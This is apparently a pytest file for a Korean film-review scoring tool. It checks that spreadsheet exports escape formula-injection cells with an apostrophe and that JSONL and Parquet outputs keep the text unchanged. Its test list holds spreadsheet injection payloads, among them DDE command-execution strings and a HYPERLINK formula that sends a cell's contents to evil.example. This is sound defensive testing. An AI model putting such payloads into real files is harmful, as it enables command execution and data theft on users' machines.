"""What people open in a spreadsheet runs nothing that a reviewer wrote; what programs read stays as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from reelsense.models.loading import load_bundled
from reelsense.tables.reading import Row, read_rows
from reelsense.tables.scoring import score_file
from reelsense.tables.streaming import Format, stream_scores
from reelsense.tables.writing import as_text, open_table

RUN = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"좋다")',
    "+82-10-1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "＝1+1",
    "－1+1",
    "-1_000",
    "+infinity",
]
HARMLESS = ["좋다", "-12.5", "+3", "1,000", "-.5", "1e-3", "a=b", "100%", ""]


@pytest.mark.parametrize("cell", RUN)
def test_a_cell_that_would_run_gets_an_apostrophe(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_words_and_numbers_stay(cell: str) -> None:
    assert as_text(cell) == cell


def _sent(folder: Path) -> Path:
    """A file whose texts, other cells and names of columns would all run."""
    path = folder / "sent.jsonl"
    with open_table(path, []) as table:
        for number, text in enumerate(RUN):
            table.write({"review": f"{text} 정말 재미있는 영화", "=film": text, "n": number})
    return path


def _runs(cell: object) -> bool:
    return isinstance(cell, str) and cell.lstrip(" \u200b\n\r\t").startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("name", ["scored.csv", "scored.tsv", "scored.csv.gz"])
def test_a_scored_file_as_text_runs_nothing(tmp_path: Path, name: str) -> None:
    out = tmp_path / name
    with open_table(tmp_path / "sent.csv", ["review", "=film"], escape_formulas=False) as table:
        for text in RUN:
            table.write({"review": f"{text} 정말 재미있는 영화", "=film": text})
    assert score_file(load_bundled(), tmp_path / "sent.csv", out, text_column="review").scored == len(RUN)
    rows = [row.cells for row in read_rows(out) if isinstance(row, Row)]
    assert len(rows) == len(RUN)
    assert not any(_runs(cell) for row in rows for pair in row.items() for cell in pair)


def test_a_scored_spreadsheet_holds_texts_and_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "scored.xlsx"
    with open_table(tmp_path / "sent.csv", ["review", "=film"], escape_formulas=False) as table:
        for text in RUN:
            table.write({"review": f"{text} 정말 재미있는 영화", "=film": text})
    score_file(load_bundled(), tmp_path / "sent.csv", out, text_column="review")
    cells = [cell for row in openpyxl.load_workbook(out).active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    shown = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert shown
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in shown)


@pytest.mark.parametrize("name", ["scored.jsonl", "scored.parquet"])
def test_what_programs_read_holds_the_texts_as_they_were(tmp_path: Path, name: str) -> None:
    score_file(load_bundled(), _sent(tmp_path), tmp_path / name)
    rows = [row.cells for row in read_rows(tmp_path / name) if isinstance(row, Row)]
    assert [row["=film"] for row in rows] == RUN


@pytest.mark.parametrize("kind", ["csv", "tsv"])
def test_an_answer_that_is_streamed_runs_nothing(tmp_path: Path, kind: Format) -> None:
    pieces = stream_scores(load_bundled(), _sent(tmp_path), kind, "review", 0.7)
    text = b"".join(pieces).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if kind == "csv" else "\t"))
    assert len(rows) == len(RUN) + 1
    assert not any(_runs(cell) for row in rows for cell in row)


def test_rows_set_aside_are_json_lines(tmp_path: Path) -> None:
    path = tmp_path / "sent.csv"
    path.write_text("review,n\n재미있는 영화,1\n=1+1,2,3,4\n", encoding="utf-8")
    done = score_file(load_bundled(), path, tmp_path / "out.csv")
    assert done.bad_file is not None
    assert done.bad_file.suffix == ".jsonl"
    assert [row.cells["raw"] for row in read_rows(done.bad_file) if isinstance(row, Row)] == ["=1+1,2,3,4"]
